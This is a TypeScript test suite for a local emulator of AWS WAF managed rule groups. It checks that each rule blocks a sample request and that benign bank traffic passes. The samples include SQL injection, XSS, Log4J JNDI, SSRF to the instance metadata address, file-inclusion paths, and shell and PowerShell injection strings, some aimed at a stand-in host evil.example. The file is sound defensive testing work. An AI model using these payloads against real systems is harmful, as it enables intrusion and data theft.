import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { managedGroups } from '../../../../lib/local/firewall/managed/managed-groups.ts';
import {
  byteMatch,
  declareWebAcl,
  evaluate,
  firewallUnderTest,
  groupRule,
  managed,
  rule,
} from '../firewall-under-test.ts';

type Parts = Parameters<typeof evaluate>[1];

function seenBy(group: string, parts: Parts, more: object = {}, reference: object = {}) {
  const { firewall } = firewallUnderTest();
  const config = configs[group] === undefined ? {} : { ManagedRuleGroupConfigs: [configs[group]] };
  declareWebAcl(firewall, [groupRule(managed(group, { ...config, ...more }), { Name: 'Ref', ...reference })]);
  return evaluate(firewall, parts);
}

/** What AWS must be told before it takes the group. */
const configs: Readonly<Record<string, object>> = {
  BotControlRuleSet: { AWSManagedRulesBotControlRuleSet: { InspectionLevel: 'TARGETED', EnableMachineLearning: true } },
  ATPRuleSet: { AWSManagedRulesATPRuleSet: { LoginPath: '/login' } },
  ACFPRuleSet: {
    AWSManagedRulesACFPRuleSet: {
      CreationPath: '/accounts',
      RegistrationPagePath: '/register',
      RequestInspection: { PayloadType: 'JSON', EmailField: { Identifier: '/email' } },
    },
  },
  AntiDDoSRuleSet: {
    AWSManagedRulesAntiDDoSRuleSet: { ClientSideActionConfig: { Challenge: { UsageOfAction: 'DISABLED' } } },
  },
};

const headers = (...them: readonly (readonly [string, string])[]) => ({
  headers: [['Host', 'api.example'] as const, ['User-Agent', 'curl/8'] as const, ...them],
});
const json = (memo: string) => ({ body: JSON.stringify({ from: 'DE1', memo, amount: 5 }) });
const argument = (value: string) => ({ queryString: `q=${encodeURIComponent(value)}` });

/** For each enforced rule: a request that it alone is there for. */
const refused: Readonly<Record<string, Readonly<Record<string, Parts>>>> = {
  CommonRuleSet: {
    NoUserAgent_HEADER: { headers: [['Host', 'api.example']] },
    UserAgent_BadBots_HEADER: { headers: [['User-Agent', 'Mozilla/5.0 (Nessus)']] },
    SizeRestrictions_QUERYSTRING: { queryString: 'a'.repeat(2049) },
    SizeRestrictions_Cookie_HEADER: headers(['Cookie', 'a'.repeat(10_241)]),
    SizeRestrictions_BODY: { body: 'a'.repeat(8193) },
    SizeRestrictions_URIPATH: { uriPath: `/${'a'.repeat(1024)}` },
    EC2MetaDataSSRF_BODY: json('http://169.254.169.254/latest'),
    EC2MetaDataSSRF_COOKIE: headers(['Cookie', 'next=http://169.254.169.254/']),
    EC2MetaDataSSRF_URIPATH: { uriPath: '/proxy/169.254.169.254/latest' },
    EC2MetaDataSSRF_QUERYARGUMENTS: argument('http://169.254.169.254/latest'),
    GenericLFI_QUERYARGUMENTS: argument('../../etc/motd'),
    GenericLFI_URIPATH: { uriPath: '/files/%2e%2e/%2e%2e/motd' },
    GenericLFI_BODY: json('../../motd'),
    RestrictedExtensions_URIPATH: { uriPath: '/server.log' },
    RestrictedExtensions_QUERYARGUMENTS: argument('php.ini'),
    GenericRFI_QUERYARGUMENTS: argument('http://203.0.113.9/x.txt'),
    GenericRFI_BODY: json('ftp://203.0.113.9/x'),
    GenericRFI_URIPATH: { uriPath: '/fetch/http://203.0.113.9/x' },
    CrossSiteScripting_COOKIE: headers(['Cookie', 'a=<script>alert(1)</script>']),
    CrossSiteScripting_QUERYARGUMENTS: argument('<script>alert(1)</script>'),
    CrossSiteScripting_BODY: json('<img src=x onerror=alert(1)>'),
    CrossSiteScripting_URIPATH: { uriPath: '/%3Cscript%3Ealert(1)%3C/script%3E' },
  },
  KnownBadInputsRuleSet: {
    JavaDeserializationRCE_HEADER: headers(['X-A', '(java.lang.Runtime).getRuntime().exec("whoami")']),
    JavaDeserializationRCE_BODY: json('(java.lang.Runtime).getRuntime().exec("whoami")'),
    JavaDeserializationRCE_URIPATH: { uriPath: '/(java.lang.Runtime).getRuntime()' },
    JavaDeserializationRCE_QUERYSTRING: argument('(java.lang.Runtime).getRuntime().exec("whoami")'),
    Host_localhost_HEADER: { headers: [['Host', 'LOCALHOST:8443']] },
    PROPFIND_METHOD: { method: 'PROPFIND' },
    ExploitablePaths_URIPATH: { uriPath: '/WEB-INF/web.xml' },
    Log4JRCE_HEADER: headers(['X-A', '${jndi:ldap://example.com/}']),
    Log4JRCE_QUERYSTRING: argument('${jndi:ldap://example.com/}'),
    Log4JRCE_BODY: json('${${lower:j}ndi:ldap://example.com/}'),
    Log4JRCE_URIPATH: { uriPath: '/$%7Bjndi:ldap://example.com/%7D' },
  },
  SQLiRuleSet: {
    SQLi_QUERYARGUMENTS: argument("1' OR '1'='1"),
    SQLiExtendedPatterns_QUERYARGUMENTS: argument('x; drop table accounts'),
    SQLi_BODY: json("1' OR '1'='1"),
    SQLiExtendedPatterns_BODY: json('my memo; drop table accounts'),
    SQLiExtendedPatterns_HEADER: headers(['X-A', '1 union select password from users']),
    SQLiExtendedPatterns_URIPATH: { uriPath: '/a/x;drop%20table%20accounts' },
    SQLi_COOKIE: headers(['Cookie', "id=1' OR '1'='1"]),
    SQLi_URIPATH: { uriPath: "/1'%20OR%20'1'='1" },
  },
  WindowsRuleSet: {
    WindowsShellCommands_COOKIE: headers(['Cookie', 'a=x||nslookup evil.example']),
    WindowsShellCommands_QUERYARGUMENTS: argument('x||nslookup evil.example'),
    WindowsShellCommands_BODY: json('x & cmd /c dir'),
    PowerShellCommands_COOKIE: headers(['Cookie', 'a=Invoke-Expression x']),
    PowerShellCommands_QUERYARGUMENTS: argument('Invoke-Expression x'),
    PowerShellCommands_BODY: json('powershell.exe -nop -enc AAAA'),
  },
  PHPRuleSet: {
    PHPHighRiskMethodsVariables_HEADER: headers(['X-A', 'fsockopen("evil.example")']),
    PHPHighRiskMethodsVariables_QUERYSTRING: argument('$_GET[x]'),
    PHPHighRiskMethodsVariables_BODY: json('<?php phpinfo()'),
  },
  WordPressRuleSet: {
    WordPressExploitableCommands_QUERYSTRING: argument('do-reset-wordpress'),
    WordPressExploitablePaths_URIPATH: { uriPath: '/xmlrpc.php' },
  },
  AdminProtectionRuleSet: { AdminProtection_URIPATH: { uriPath: '/sqlmanager' } },
  LinuxRuleSet: {
    LFI_URIPATH: { uriPath: '/files/proc/version' },
    LFI_QUERYSTRING: argument('/etc/passwd'),
    LFI_HEADER: headers(['X-A', 'file:///proc/version']),
  },
  UnixRuleSet: {
    UNIXShellCommandsVariables_QUERYSTRING: argument('echo $HOME'),
    UNIXShellCommandsVariables_BODY: json('x; cat /etc/motd'),
    UNIXShellCommandsVariables_HEADER: headers(['X-A', '$(whoami)']),
  },
};

describe('a managed group', () => {
  for (const [group, requests] of Object.entries(refused)) {
    const rules = managedGroups.get(`AWSManagedRules${group}`)?.rules ?? [];

    it(`${group} has a request to refuse for each rule that it enforces`, () => {
      const enforced = rules.filter(({ enforcement }) => enforcement !== 'not-enforced').map(({ name }) => name);
      assert.deepEqual(Object.keys(requests).toSorted(), enforced.toSorted());
    });

    for (const [name, parts] of Object.entries(requests)) {
      it(`${group} refuses by ${name}, and not when it is to count`, () => {
        const others = rules.filter((other) => other.name !== name);
        const alone = { RuleActionOverrides: others.map(({ name: Name }) => ({ Name, ActionToUse: { Count: {} } })) };
        const { action, seen } = seenBy(group, parts, alone);
        assert.equal(action, 'block');
        assert.equal(seen.terminatingRule, `Ref#${name}`);
        const none = { RuleActionOverrides: rules.map(({ name: Name }) => ({ Name, ActionToUse: { Count: {} } })) };
        const counted = seenBy(group, parts, none);
        assert.equal(counted.action, 'allow');
        assert.ok(counted.seen.countedRules.includes(`Ref#${name}`));
      });
    }
  }

  const harmless: readonly Parts[] = [
    {},
    { queryString: 'limit=20&cursor=eyJhIjoxfQ' },
    headers(
      ['Authorization', `Bearer ${'abcDEF123_-.'.repeat(60)}`],
      ['Accept', '*/*'],
      ['Content-Type', 'application/json'],
    ),
    headers(['Accept', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8'], ['Accept-Language', 'de-DE,de;q=0.9']),
    headers([
      'User-Agent',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0 Safari/537.36',
    ]),
    { uriPath: '/accounts/acc_01HZX/transactions' },
    { uriPath: '/openapi.json' },
    ...[
      'Rent for May',
      "O'Neil & Sons, invoice 42",
      "it's yours; drop it off at table 5",
      'select a gift from the union shop, order by phone',
      'https://shop.example/orders/1?id=2',
      '50% of 1,000.00 EUR = 500 (see note #3)',
      'a < b, b > c -- or so',
      'Überweisung für Müller – März',
      'cat food & dog food; echo of summer',
      'thanks... see you at 10/11',
    ].flatMap((text) => [json(text), argument(text)]),
  ];

  for (const group of managedGroups.keys()) {
    it(`${group} lets what a bank is sent pass`, () => {
      for (const parts of harmless) {
        const { action, seen } = seenBy(group.replace('AWSManagedRules', ''), parts);
        assert.equal(action, 'allow', `${seen.terminatingRule}: ${JSON.stringify(parts)}`);
      }
    });
  }

  it('labels by the literal names of AWS', () => {
    const label = (group: string, parts: Parts) => seenBy(group, parts).seen.labels;
    assert.deepEqual(label('CommonRuleSet', { headers: [] }), ['awswaf:managed:aws:core-rule-set:NoUserAgent_Header']);
    assert.deepEqual(label('KnownBadInputsRuleSet', { method: 'PROPFIND' }), [
      'awswaf:managed:aws:known-bad-inputs:Propfind_Method',
    ]);
    assert.deepEqual(label('SQLiRuleSet', { uriPath: '/x;drop%20table%20y' }), [
      'awswaf:managed:aws:sql-database:SQLiExtendedPatterns_UriPath',
    ]);
  });

  it('finds an attack that is encoded twice', () => {
    assert.equal(seenBy('SQLiRuleSet', { queryString: 'q=1%2527%2520OR%2520%25271%2527=%25271' }).action, 'block');
    assert.equal(
      seenBy('CommonRuleSet', { queryString: 'q=%253Cscript%253Ealert(1)%253C/script%253E' }).action,
      'block',
    );
    assert.equal(seenBy('CommonRuleSet', json('&lt;script&gt;alert(1)&lt;/script&gt;')).action, 'block');
  });

  it('labels the state of the token where AWS does: none is accepted, for none was ever handed out', () => {
    const token = headers(['Cookie', 'a=b; aws-waf-token=x']);
    for (const group of Object.keys(configs)) {
      assert.deepEqual(seenBy(group, {}).seen.labels, ['awswaf:managed:token:absent'], group);
      assert.deepEqual(seenBy(group, token).seen.labels, ['awswaf:managed:token:rejected'], group);
    }
    assert.deepEqual(seenBy('LinuxRuleSet', {}).seen.labels, []);
  });

  it('is asked only about what its scope-down statement matches', () => {
    const scope = { ScopeDownStatement: byteMatch({ UriPath: {} }, '/in') };
    assert.equal(seenBy('CommonRuleSet', { headers: [], uriPath: '/in' }, scope).action, 'block');
    assert.equal(seenBy('CommonRuleSet', { headers: [], uriPath: '/out' }, scope).action, 'allow');
  });

  it('leaves its labels for later rules when it is to count', () => {
    const { firewall } = firewallUnderTest();
    const key = 'awswaf:managed:aws:core-rule-set:';
    declareWebAcl(firewall, [
      groupRule(managed('CommonRuleSet'), { OverrideAction: { Count: {} } }),
      rule({ LabelMatchStatement: { Scope: 'NAMESPACE', Key: key } }, { Name: 'ByLabel' }),
    ]);
    assert.equal(evaluate(firewall, { headers: [] }).seen.terminatingRule, 'ByLabel');
    assert.equal(evaluate(firewall).action, 'allow');
  });

  it('ignores an override of a rule that it lacks, as AWS does, and warns of it', () => {
    const { firewall, warnings } = firewallUnderTest();
    const typo = { RuleActionOverrides: [{ Name: 'SizeRestrictions_Body', ActionToUse: { Count: {} } }] };
    declareWebAcl(firewall, [groupRule(managed('CommonRuleSet', typo))]);
    assert.equal(warnings.length, 1);
    assert.match(warnings[0] ?? '', /AWSManagedRulesCommonRuleSet has no rule SizeRestrictions_Body/);
  });

  it('says of each rule how near it comes to AWS', () => {
    const { firewall } = firewallUnderTest();
    declareWebAcl(firewall, [
      groupRule(managed('CommonRuleSet'), { Name: 'Common' }),
      groupRule(managed('AmazonIpReputationList'), { Name: 'Reputation' }),
      rule(byteMatch({ UriPath: {} }, 'x'), { Name: 'Own' }),
    ]);
    const described = new Map(firewall.describe().map(({ rule: name, enforcement }) => [name, enforcement]));
    assert.equal(described.get('Bank#Common#NoUserAgent_HEADER'), 'exact');
    assert.equal(described.get('Bank#Common#CrossSiteScripting_BODY'), 'approximated');
    assert.equal(described.get('Bank#Reputation#AWSManagedIPReputationList'), 'not-enforced');
    assert.equal(described.get('Bank#Own'), 'exact');
  });
});
